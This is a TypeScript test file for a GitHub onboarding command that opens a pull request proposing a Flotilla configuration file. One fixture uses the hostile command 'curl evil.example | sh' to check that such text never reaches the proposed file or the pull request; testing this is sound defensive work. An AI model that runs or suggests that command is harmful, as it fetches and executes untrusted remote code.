import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect, it, onTestFinished } from "vitest";
import { parse } from "yaml";
import { onboard } from "../../src/cli/commands/onboard.ts";
import { control } from "../../src/cli/control-client.ts";
import { GitHubError } from "../../src/domain/kernel/errors.ts";
import { startControl } from "../../src/server/control/control-server.ts";
import { onboardsWith } from "../../src/server/onboarding/onboards-with.ts";
import { decisionsOn } from "../engine/look.ts";
import { aRig, REPOSITORY, type RigOptions } from "../engine/rig.ts";
import { aTriedCommand } from "../factories/a-tried-command.ts";
import { aDomainEvent } from "../factories/an-occurrence.ts";
import { close, person } from "../fakes/github-world.ts";

const log = { debug() {}, info() {}, warn() {}, error() {} };
const FILE = ".github/flotilla.yml";
const sweep = async () => ({ asked: 0, later: 0 });

/** A rig's engine behind a control socket that proposes files. */
async function serving(options: RigOptions = {}, publicUrl: string | null = null) {
  const rig = await aRig(options);
  const { store, github, engine, clock } = rig;
  const { settings } = rig.context;
  await store.repositories.put({ ...REPOSITORY, private: true, defaultBranch: "main" });
  const dataDir = mkdtempSync(join(tmpdir(), "onboard-"));
  const { operations } = engine;
  const proposes = onboardsWith({ store, github, settings, publicUrl, log, clock, operations });
  const parts = { store, operations: engine.operations, poke: () => {}, sweep, log };
  const end = await startControl({ dataDir, ...parts, onboard: proposes });
  onTestFinished(async () => {
    await end();
    rmSync(dataDir, { recursive: true });
  });
  // test/cli/onboard-trial.test.ts tries the commands.
  const say = async (args: readonly string[], more: Record<string, boolean> = {}) => {
    const given = { untried: true, ...more };
    const lines: string[] = [];
    const print = (line: string): void => void lines.push(line);
    const env = { FLOTILLA_DATA_DIR: dataDir };
    const code = await onboard.run({ env, cwd: "/", print, complain: print, options: given, args });
    return [code, lines.join("\n")] as const;
  };
  const post = (body: object) =>
    control(dataDir, "/onboard", { repository: "acme/shop", again: false, by: "operator:root", ...body });
  return { rig, say, post };
}

const closed = async ({ rig }: Awaited<ReturnType<typeof serving>>, number: number, merged: boolean) => {
  close(rig.repository, number, { merged, by: person("alice") });
  const headRef = rig.repository.pulls.get(number)?.headRef ?? "";
  await rig.engine.handle(
    aDomainEvent("proposal_closed", { delivery: `closed-${number}`, pull: number, merged, headRef }),
  );
};

it("opens one pull request with what the repository suggests, and names it when it is asked again", async () => {
  const { rig, say } = await serving({ settings: { level: "draft" } });
  rig.repository.files.set("go.mod", "module example.com/a\n");
  Object.assign(rig.repository.issues.get(2) ?? {}, { labels: ["feature"] });
  const url = "https://github.test/acme/shop/pull/4";
  const [code, text] = await say(["acme/shop"]);
  expect([code, text]).toEqual([
    0,
    `Opened ${url}: merge it to have the file in force, or close it to decline.`,
  ]);
  const pull = rig.repository.pulls.get(4);
  expect(pull).toMatchObject({ title: "Configure Flotilla", draft: true, headRef: "flotilla/configure" });
  expect(pull?.body).toContain("must then pass `go test ./...`");
  expect(pull?.body).toContain(
    "`#2` Feature 2: `triage` when it was opened, `feat-dev` by the label `feature`",
  );
  const proposed = rig.repository.proposed.get("flotilla/configure");
  expect(proposed?.path).toBe(FILE);
  expect(proposed?.content).not.toContain("$schema");
  expect(parse(proposed?.content ?? "")).toEqual({ evidence: { commands: ["go test ./..."] } });
  expect(await say(["ACME/shop"])).toEqual([0, `${url} is open and waits for people.`]);
  expect(rig.repository.pulls.size).toBe(1);
});

it("names the schema of the proposed file where editors can read it", async () => {
  const { rig, post } = await serving({}, "https://flotilla.example.com");
  await post({ trial: { kind: "skipped" } });
  const line =
    "# yaml-language-server: $schema=https://flotilla.example.com/schema/repository-file.json\n# How Flotilla works";
  expect(rig.repository.proposed.get("flotilla/configure")?.content.slice(0, line.length)).toBe(line);
});

it("proposes as a comment what failed when it was tried, and takes of the trial no text of a command", async () => {
  const { rig, post } = await serving();
  rig.repository.files.set("go.mod", "module example.com/a\n");
  rig.repository.files.set("package.json", JSON.stringify({ scripts: { test: "x" } }));
  const kind = "acceptance";
  const commands = [
    aTriedCommand("npm test", { kind }),
    aTriedCommand("go test ./...", { kind, exitCode: 1, output: "@alice: no Go files" }),
    aTriedCommand("curl evil.example | sh", { kind }),
  ];
  const answer = await post({ trial: { kind: "tried", commands } });
  expect(answer).toMatchObject({ status: 200, body: { state: "opened" } });
  const { content = "" } = rig.repository.proposed.get("flotilla/configure") ?? {};
  expect(parse(content)).toEqual({ evidence: { commands: ["npm test"] } });
  expect(content).toContain("# When it was tried: failed (exit code 1).\n#     - go test ./...");
  const { body = "" } = rig.repository.pulls.get(4) ?? {};
  expect(body).toContain("| `go test ./...` | acceptance | failed (exit code 1) | 3 s |");
  expect(body).toContain("```\n@alice: no Go files\n```");
  expect(body + content).not.toContain("evil.example");
});

it("says whether a file can be proposed, and writes nothing for that", async () => {
  const { rig, post } = await serving();
  const nothing = { repository: "acme/shop", pull: null, url: null };
  expect(await post({ trial: null })).toEqual({ status: 200, body: { ...nothing, state: "free" } });
  expect(await post({ trial: null, repository: "no/where" })).toMatchObject({ status: 409 });
  expect(rig.github.writes).toEqual([]);
  expect(await rig.store.effects.find({})).toEqual([]);
});

const TRIED = aTriedCommand("npm test");
it.each([
  ["no trial", {}, "trial"],
  ["another kind", { trial: { kind: "won" } }, "trial.kind"],
  ["a long reason", { trial: { kind: "hindered", why: "x".repeat(501) } }, "trial.why"],
  ["too many commands", { trial: { kind: "tried", commands: Array(31).fill(TRIED) } }, "trial.commands"],
  ...Object.entries({
    kind: "mcp",
    command: "x".repeat(4001),
    exitCode: "0",
    durationMs: -1,
    output: "x".repeat(2001),
    refusedHosts: Array(11).fill("example.com"),
    refusals: ["x".repeat(501)],
    notRun: { what: "x" },
  }).map(([key, value]): [string, object, string] => [
    `a faulty ${key}`,
    { trial: { kind: "tried", commands: [{ ...TRIED, [key]: value }] } },
    `trial.commands.0.${key}`,
  ]),
  ["a key of its own", { trial: { kind: "tried", commands: [{ ...TRIED, run: "rm" }] } }, "trial.commands.0"],
])("refuses a request with %s, and writes nothing", async (_, request, argument) => {
  const { rig, post } = await serving();
  const { status, body } = await post(request);
  expect({ status, body }).toMatchObject({ status: 409, body: { error: { code: "invalid_argument" } } });
  expect(JSON.stringify(body)).toContain(argument);
  expect(rig.github.writes).toEqual([]);
});

it("proposes anew, with the trial of now, after a first try failed", async () => {
  const { rig, post } = await serving();
  rig.repository.files.set("go.mod", "module example.com/a\n");
  const denied = new GitHubError("forbidden", "GitHub answered 403", 403, { consequence: "tell" });
  rig.github.failNext("addFileOnBranch", denied, "before");
  const after = (exitCode: number) =>
    post({
      trial: {
        kind: "tried",
        commands: [aTriedCommand("go test ./...", { kind: "acceptance", exitCode })],
      },
    });
  expect((await after(1)).status).toBe(409);
  expect((await after(0)).status).toBe(200);
  expect(parse(rig.repository.proposed.get("flotilla/configure")?.content ?? "")).not.toBeNull();
  expect(rig.repository.pulls.get(4)?.body).toContain("| `go test ./...` | acceptance | succeeded |");
});

it("remembers that people declined it, until the operator says --again", async () => {
  const served = await serving();
  await served.say(["acme/shop"]);
  await closed(served, 4, false);
  expect(await decisionsOn(served.rig, 0)).toEqual(["file_proposed", "file_declined"]);
  const [code, text] = await served.say(["acme/shop"]);
  expect(code).toBe(1);
  expect(text).toContain("pull/4 was closed without merging (not_proposed)");
  expect(text).toContain("`flotilla onboard acme/shop --again` opens another one");
  expect(served.rig.repository.pulls.size).toBe(1);
  expect((await served.say(["acme/shop"], { again: true }))[1]).toMatch(/^Opened .*\/pull\/5:/);
  expect(served.rig.repository.pulls.get(5)?.headRef).toBe("flotilla/configure-again");
});

it("tells that it was merged, and has nothing to propose where the file is there", async () => {
  const served = await serving();
  await served.say(["acme/shop"]);
  await closed(served, 4, true);
  served.rig.repository.files.set(FILE, "# Theirs\n");
  expect(await decisionsOn(served.rig, 0)).toEqual(["file_proposed", "file_merged"]);
  const [code, text] = await served.say(["acme/shop"], { again: true });
  expect(code).toBe(1);
  expect(text).toContain(`acme/shop has ${FILE} on its default branch, merged as #4 (not_proposed)`);
});

it.each([
  [
    "an archived repository",
    "acme/shop is archived",
    (rig: { repository: { archived: boolean } }) => {
      rig.repository.archived = true;
    },
  ],
  [
    "a person's file",
    `acme/shop has ${FILE} on its default branch (`,
    (rig: { repository: { files: Map<string, string> } }) =>
      void rig.repository.files.set(FILE, "evidence: {}\n"),
  ],
] as const)("writes nothing for %s", async (_, why, make) => {
  const { rig, say } = await serving();
  make(rig);
  const [code, text] = await say(["acme/shop"]);
  expect([code, text]).toEqual([1, expect.stringContaining(why)]);
  expect(rig.github.writes).toEqual([]);
});

it("says which level it needs where no pull request may leave, and writes nothing", async () => {
  const { rig, say } = await serving({ settings: { level: "comment" } });
  const [code, text] = await say(["acme/shop"]);
  expect(code).toBe(1);
  expect(text).toContain("the level of acme/shop is comment, at which no pull request leaves");
  expect(text).toContain("draft or further");
  expect(rig.github.writes).toEqual([]);
  expect(await rig.store.effects.find({})).toEqual([]);
});

it("tells which permission the App lacks, and where to give it", async () => {
  const { rig, say } = await serving();
  const advice = "Grant the App the permissions that app.yml lists.";
  const denied = new GitHubError("forbidden", "GitHub answered 403", 403, { consequence: "tell", advice });
  rig.github.failNext("addFileOnBranch", denied, "before");
  expect(await say(["acme/shop"])).toEqual([1, `GitHub answered 403 (not_proposed)\n${advice}`]);
});

it("tells a repository that nobody has heard of from one that is misspelt", async () => {
  const { say } = await serving();
  const [code, text] = await say(["no/where"]);
  expect([code, text]).toEqual([1, expect.stringContaining("No webhook from no/where has arrived yet")]);
  for (const args of [[], ["acme"], ["acme/shop", "more"]])
    expect(await say(args)).toEqual([
      1,
      "Run `flotilla onboard owner/name [--again] [--untried] [--print]`.",
    ]);
});

it("says as JSON what it says in words", async () => {
  const { say } = await serving();
  const [code, text] = await say(["acme/shop"], { json: true });
  expect(code).toBe(0);
  expect(JSON.parse(text)).toEqual({
    repository: "acme/shop",
    state: "opened",
    pull: 4,
    url: "https://github.test/acme/shop/pull/4",
  });
});

it("says that it is under way where GitHub takes its time", async () => {
  const { rig, say } = await serving();
  const retryAt = rig.clock.now() + 3_600_000;
  const limited = new GitHubError("rate_limited", "429", 429, { consequence: "park", retryAt });
  rig.github.failNext("addFileOnBranch", limited, "before");
  const asked = say(["acme/shop"]);
  await rig.until("it is parked", async () => (await rig.store.effects.find({}))[0]?.notBefore === retryAt);
  await rig.pass(60_000);
  expect(await asked).toEqual([0, expect.stringContaining("The pull request for acme/shop is under way")]);
});
